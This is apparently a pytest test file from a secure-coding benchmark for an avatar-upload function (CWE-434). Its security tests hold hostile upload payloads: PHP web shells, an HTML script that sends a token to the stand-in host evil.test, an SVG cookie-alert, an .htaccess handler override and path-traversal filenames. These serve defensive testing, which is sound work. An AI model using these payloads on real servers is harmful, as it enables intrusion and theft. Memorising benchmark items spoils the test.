"""Tests for save_avatar: an upload must not put attacker-named or non-image files on the web server."""

import os

import pytest

from sectree_check import assert_same, exact
from cwe_434_0_task import save_avatar

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
IMAGE_EXTS = {".png", ".jpg", ".jpeg", ".gif", ".webp"}


@pytest.fixture
def root(tmp_path):
    media = tmp_path / "srv" / "www" / "media"  # deep enough that "../.." stays inside tmp_path
    media.mkdir(parents=True)
    return media


def all_files(base):
    return sorted(p for p in base.rglob("*") if p.is_file() or p.is_symlink())


@pytest.mark.functionality
@pytest.mark.parametrize(
    "filename, ctype, data",
    [("me.png", "image/png", PNG), ("holiday photo.JPG", "image/jpeg", JPEG), ("wave.gif", "image/gif", GIF)],
)
def test_saves_image(root, filename, ctype, data):
    rel = exact(save_avatar(str(root), 42, filename, ctype, data), str)
    path = root / rel
    assert path.is_file() and path.read_bytes() == data
    assert_same(path.parent, root / "42")


@pytest.mark.functionality
def test_replaces_previous_avatar(root):
    exact(save_avatar(str(root), 7, "old.png", "image/png", PNG), str)
    rel = exact(save_avatar(str(root), 7, "new.gif", "image/gif", GIF), str)
    assert_same([os.path.basename(rel)], [p.name for p in (root / "7").iterdir()])
    assert_same((root / rel).read_bytes(), GIF)


@pytest.mark.functionality
def test_users_are_separate(root):
    a = exact(save_avatar(str(root), 1, "a.png", "image/png", PNG), str)
    b = exact(save_avatar(str(root), 2, "b.png", "image/png", PNG + b"2"), str)
    assert (root / a).read_bytes() == PNG and (root / b).read_bytes() == PNG + b"2"


@pytest.mark.functionality
@pytest.mark.parametrize(
    "filename, ctype, data",
    [
        ("notes.txt", "text/plain", b"hello"),
        ("doc.pdf", "application/pdf", b"%PDF-1.4"),
        ("empty.png", "image/png", b""),
        ("huge.png", "image/png", PNG + bytes(2 * 1024 * 1024)),
    ],
)
def test_rejects_non_images(root, filename, ctype, data):
    with pytest.raises(ValueError):
        save_avatar(str(root), 5, filename, ctype, data)


def upload(root, filename, ctype, data):
    try:
        exact(save_avatar(str(root), 42, filename, ctype, data), str)
    except (ValueError, OSError):
        pass  # refusing the upload is fine


@pytest.mark.security
@pytest.mark.parametrize(
    "filename, data",
    [
        ("shell.php", b"<?php system($_GET['c']); ?>"),
        ("avatar.png.php", b"<?php system($_GET['c']); ?>"),
        ("avatar.phtml", b"<?php phpinfo(); ?>"),
        ("profile.html", b"<script>fetch('/api/token').then(r=>r.text()).then(t=>location='//evil.test/?'+t)</script>"),
        ("pic.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(document.cookie)'/>"),
        (".htaccess", b"AddType application/x-httpd-php .png"),
    ],
)
def test_only_image_files_are_published(root, filename, data):
    # the browser-supplied Content-Type is attacker-controlled too
    upload(root, filename, "image/png", data)
    bad = [p for p in all_files(root) if p.suffix.lower() not in IMAGE_EXTS or p.name.startswith(".")]
    assert not bad, f"non-image file published under /media/: {bad}"


@pytest.mark.security
@pytest.mark.parametrize("filename", ["../../pwned.png", "../41/avatar.png"])
def test_name_cannot_choose_location(tmp_path, root, filename):
    victim_dir = root / "41"
    victim_dir.mkdir()
    (victim_dir / "avatar.png").write_bytes(b"victim's avatar")
    upload(root, filename, "image/png", PNG)
    outside = [p for p in all_files(tmp_path) if root not in p.parents]
    assert not outside, f"upload escaped the user's directory: {outside}"
    assert_same((victim_dir / "avatar.png").read_bytes(), b"victim's avatar")
